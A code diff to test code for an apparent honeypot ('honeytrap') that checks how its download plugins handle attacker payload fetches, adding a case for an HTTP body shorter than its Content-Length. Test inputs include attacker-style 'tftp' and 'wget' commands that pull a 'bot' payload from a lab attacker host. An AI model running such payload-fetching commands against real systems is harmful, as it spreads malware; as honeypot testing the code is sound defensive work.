@@ -15,6 +15,7 @@ from download_servers import PLUGIN_DIR, start
 from netns import Lab, inside
 
 from honeytrap.attack import Attack, Connection, Payload
+from honeytrap.background import Task
 from honeytrap.config import Config, PluginSpec
 from honeytrap.plugin import load_plugins
 
@@ -53,7 +54,9 @@ def download(lab: Lab, plugin: str, payload: bytes) -> tuple[dict[str, Any], flo
         with inside(lab.sensor):
             started = time.monotonic()
             for _, hook in registry.hooks["analyze"]:
-                hook(attack)
+                for task in hook(attack) or ():
+                    assert isinstance(task, Task)
+                    task.run()  # the real download, as the download pool runs it
             elapsed = time.monotonic() - started
     finally:
         registry.close()
@@ -110,3 +113,15 @@ def test_a_slow_endless_tftp_transfer_is_cut_at_the_cap(lab: Lab) -> None:
         lab, "tftpDownload", f"tftp -g -r bot.sh {lab.attacker.ip4} {port}".encode()
     )
     assert_cut_at_the_cap(record, elapsed)
+
+
+def test_a_body_shorter_than_its_content_length_is_a_failed_try(lab: Lab) -> None:
+    """Not a sample: a server that closes early must not leave a truncated file recorded."""
+    port = start(lab, lab.attacker, "hostile", "short", lab.attacker.ip4)
+    record, _elapsed = download(
+        lab, "httpDownload", f"wget http://{lab.attacker.ip4}:{port}/bot".encode()
+    )
+    assert record["download_count"] == 0
+    [attempt] = record["download_attempts"]
+    assert (attempt["outcome"], attempt["reason"]) == (
+        "failed", "HTTP body ended 900 bytes short of its Content-Length")
